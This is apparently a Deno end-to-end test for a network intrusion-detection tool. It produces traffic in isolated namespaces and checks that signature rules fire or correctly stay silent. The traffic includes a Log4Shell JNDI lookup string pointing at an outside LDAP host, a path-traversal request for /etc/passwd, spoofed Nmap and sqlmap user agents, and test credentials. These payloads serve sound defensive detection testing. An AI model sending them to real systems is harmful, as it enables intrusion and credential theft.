/**
 * Rules against traffic made by real tools in network namespaces this test
 * creates: curl (chosen paths, headers, user agents, bodies, Basic auth),
 * a Deno HTTP server answering with the EICAR test file, dig (chosen
 * names), openssl s_client (chosen SNI, TLS 1.3 and 1.2) against openssl s_server, nc with
 * an FTP password, ping. tcpdump records it; `analyze --rules` runs the
 * shipped rules plus rules written here, each keyword family with rules
 * that must fire and near misses that must not (offset off by one, within
 * one short, wrong direction, negated content, bsize one short).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { runCli } from "../cli/_testing.ts";
import { mustRun, poll, runCommand } from "../tests/e2e/_lab.ts";
import { createVethPair } from "../tests/netns.ts";

const TOOLS = ["ip", "tcpdump", "curl", "dig", "openssl", "nc", "ping"];

async function unavailable(): Promise<string | null> {
  if (Deno.uid() !== 0) return "needs root (network namespaces)";
  const missing: string[] = [];
  for (const t of TOOLS) {
    const r = await runCommand(["sh", "-c", `command -v ${t}`]);
    if (!r.success) missing.push(t);
  }
  return missing.length > 0
    ? `missing ${missing.join(", ")} (./run.sh setup test)`
    : null;
}

const why = await unavailable();
const ignore = why !== null && Deno.env.get("CI") !== "true";

const EICAR =
  "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/** sids that must fire, and near misses that must not. */
const MUST = [
  1900001, // shipped: Nmap NSE user agent
  1900002, // shipped: sqlmap user agent
  1900101, // shipped: EICAR in a response (file_data)
  1900201, // shipped: HTTP Basic auth
  1900202, // shipped: FTP PASS (nc)
  1900301, // shipped: Log4Shell in the request
  1900305, // shipped: /etc/passwd in the URI
  3000001, // dns.query + dotprefix + endswith
  3000011, // tls.sni + bsize
  3000013, // tls.cert_subject (from the handshake)
  3000015, // ja3.hash is 32 hex digits
  3000016, // ja4.hash of a TLS 1.3 client with SNI
  3000021, // http.uri content with depth
  3000023, // http.header distance/within
  3000032, // flow:to_server payload
  3000042, // negated user agent that is absent
  3000051, // itype
  3000061, // http.method + http.request_body (curl -d)
  3000071, // http.stat_code on the answer
];
const MUST_NOT = [
  1900003, // shipped: Nikto (never sent)
  3000002, // dns: a longer suffix than the name has
  3000012, // tls.sni: bsize one short
  3000014, // tls.cert_subject of another name
  3000022, // http.uri: offset one too far
  3000024, // http.header: within one too short
  3000031, // flow:to_client on a request
  3000041, // negated user agent that is present
  3000072, // http.stat_code that was not answered
];

const RULES = `
alert dns any any -> any any (msg:"dns suffix"; dns.query; dotprefix; content:".evil.example.test"; endswith; sid:3000001;)
alert dns any any -> any any (msg:"dns longer suffix"; dns.query; dotprefix; content:".x.evil.example.test"; endswith; sid:3000002;)
alert tls any any -> any any (msg:"sni"; flow:to_server; tls.sni; content:"bad.example.test"; bsize:16; sid:3000011;)
alert tls any any -> any any (msg:"sni short"; tls.sni; content:"bad.example.test"; bsize:15; sid:3000012;)
alert tls any any -> any any (msg:"cert"; flow:to_client; tls.cert_subject; content:"CN=bad.example.test"; sid:3000013;)
alert tls any any -> any any (msg:"cert other"; tls.cert_subject; content:"CN=good.example.test"; sid:3000014;)
alert tls any any -> any any (msg:"ja3"; ja3.hash; bsize:32; pcre:"/^[0-9a-f]{32}$/"; sid:3000015;)
alert tls any any -> any any (msg:"ja4"; flow:to_server; ja4.hash; content:"t13d"; startswith; sid:3000016;)
alert http any any -> any any (msg:"uri depth"; http.uri; content:"/probe"; depth:6; sid:3000021;)
alert http any any -> any any (msg:"uri offset"; http.uri; content:"/probe"; offset:1; sid:3000022;)
alert http any any -> any any (msg:"hdr within"; http.header; content:"X-Test|3a 20|"; content:"alpha"; distance:0; within:5; sid:3000023;)
alert http any any -> any any (msg:"hdr within short"; http.header; content:"X-Test|3a 20|"; content:"beta"; distance:5; within:3; sid:3000024;)
alert tcp any any -> any 80 (msg:"wrong way"; flow:established,to_client; content:"GET /probe"; sid:3000031;)
alert tcp any any -> any 80 (msg:"right way"; flow:established,to_server; content:"GET /probe"; depth:10; sid:3000032;)
alert http any any -> any any (msg:"not curl"; http.uri; content:"/probe"; http.user_agent; content:!"curl"; sid:3000041;)
alert http any any -> any any (msg:"not wget"; http.uri; content:"/probe"; http.user_agent; content:!"Wget"; sid:3000042;)
alert icmp any any -> any any (msg:"echo"; itype:8; sid:3000051;)
alert http any any -> any any (msg:"post body"; http.method; content:"POST"; http.request_body; content:"secret=42"; sid:3000061;)
alert http any any -> any any (msg:"stat 200"; flow:to_client; http.stat_code; content:"200"; bsize:3; sid:3000071;)
alert http any any -> any any (msg:"stat 500"; flow:to_client; http.stat_code; content:"500"; sid:3000072;)
`;

const SERVER = `
const [host] = Deno.args;
Deno.serve({ hostname: host, port: 80, onListen() {} }, (req) => {
  const u = new URL(req.url);
  if (u.pathname === "/eicar.txt") return new Response(${
  JSON.stringify(EICAR)
});
  return new Response("ok");
});
`;

Deno.test({
  name: `rules fire on real tools' traffic and near misses do not${
    why && ignore ? ` (skipped: ${why})` : ""
  }`,
  ignore,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await using pair = await createVethPair();
    const tmp = await Deno.makeTempDir({ prefix: "ns-rules-" });
    const pcap = join(tmp, "t.pcap");
    const procs: Deno.ChildProcess[] = [];
    const spawn = (ns: string, cmd: string[]) => {
      const p = new Deno.Command("ip", {
        args: ["netns", "exec", ns, ...cmd],
        stdin: "null",
        stdout: "null",
        stderr: "null",
      }).spawn();
      procs.push(p);
      return p;
    };
    try {
      const a = pair.a, b = pair.b;
      const log = join(tmp, "tcpdump.log");
      spawn(b.ns, [
        "sh",
        "-c",
        `exec tcpdump -i ${b.iface} -n -U -w ${pcap} 2> ${log}`,
      ]);
      // tcpdump says "listening on" once it captures.
      await poll(
        "tcpdump to listen",
        async () =>
          (await Deno.readTextFile(log)).includes("listening on") ? true : null,
        { timeoutMs: 10_000 },
      );
      await mustRun([
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-subj",
        "/CN=bad.example.test",
        "-days",
        "1",
        "-keyout",
        join(tmp, "k.pem"),
        "-out",
        join(tmp, "c.pem"),
      ]);
      await Deno.writeTextFile(join(tmp, "server.ts"), SERVER);
      spawn(b.ns, [
        Deno.execPath(),
        "run",
        "--allow-net",
        join(tmp, "server.ts"),
        b.ip,
      ]);
      spawn(b.ns, [
        "openssl",
        "s_server",
        "-www",
        "-accept",
        "443",
        "-cert",
        join(tmp, "c.pem"),
        "-key",
        join(tmp, "k.pem"),
      ]);
      spawn(b.ns, ["nc", "-l", "21"]);
      for (const port of [80, 443, 21]) {
        await poll(`port ${port} to listen`, async () => {
          const r = await pair.exec(b, [
            "sh",
            "-c",
            `ss -ltn | grep -q ':${port} '`,
          ]);
          return r.success ? true : null;
        }, { timeoutMs: 20_000 });
      }
      const base = `http://${b.ip}`;
      const curl = (...args: string[]) =>
        pair.exec(a, [
          "curl",
          "-s",
          "-o",
          "/dev/null",
          "--max-time",
          "5",
          ...args,
        ]);
      await curl(
        "-A",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        `${base}/`,
      );
      await curl(
        "-A",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        `${base}/index.php?id=1`,
      );
      await curl(`${base}/eicar.txt`);
      await curl("-u", "admin:hunter2", `${base}/admin/`);
      await curl("-H", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}", `${base}/`);
      await curl("--path-as-is", `${base}/static/../../../../etc/passwd`);
      await curl("-H", "X-Test: alphabeta", `${base}/probe?x=1`);
      await curl("-d", "user=a&secret=42", `${base}/form`);
      await pair.exec(a, [
        "dig",
        `@${b.ip}`,
        "+tries=1",
        "+time=1",
        "www.evil.example.test",
      ]);
      await pair.exec(a, [
        "sh",
        "-c",
        `echo | timeout 5 openssl s_client -connect ${b.ip}:443 -servername bad.example.test`,
      ]);
      // TLS 1.2: the certificate is in the clear (TLS 1.3 encrypts it).
      await pair.exec(a, [
        "sh",
        "-c",
        `echo | timeout 5 openssl s_client -tls1_2 -connect ${b.ip}:443 -servername bad.example.test`,
      ]);
      await pair.exec(a, [
        "sh",
        "-c",
        `printf 'USER anonymous\\r\\nPASS hunter2\\r\\n' | timeout 5 nc -N ${b.ip} 21`,
      ]);
      await pair.exec(a, ["ping", "-c", "1", "-W", "1", b.ip]);
      // The echo reply is the last packet: wait until tcpdump wrote it.
      await poll("the capture to hold the echo reply", async () => {
        const r = await runCommand(["tcpdump", "-nr", pcap, "icmp"]);
        return r.stdout.includes("echo reply") ? true : null;
      }, { timeoutMs: 10_000 });
    } finally {
      for (const p of procs) {
        try {
          p.kill("SIGTERM");
        } catch {
          // Already ended.
        }
        await p.status;
      }
    }
    const rulesFile = join(tmp, "lab.rules");
    await Deno.writeTextFile(rulesFile, RULES);
    const res = await runCli([
      "analyze",
      "--no-model",
      "--rules",
      rulesFile,
      pcap,
    ]);
    assert.equal(res.code, 0, res.stderr);
    const sids = new Set<number>();
    for (const line of res.stdout.split("\n")) {
      if (line.trim() === "") continue;
      const rec = JSON.parse(line);
      if (rec.netsentinel?.type === "signature") {
        sids.add(rec.alert.signature_id);
      }
    }
    const missing = MUST.filter((s) => !sids.has(s));
    const wrong = MUST_NOT.filter((s) => sids.has(s));
    assert.deepEqual(
      { missing, wrong },
      { missing: [], wrong: [] },
      `fired: ${[...sids].sort()} in ${pcap}: ${res.stderr}`,
    );
    await Deno.remove(tmp, { recursive: true });
  },
});
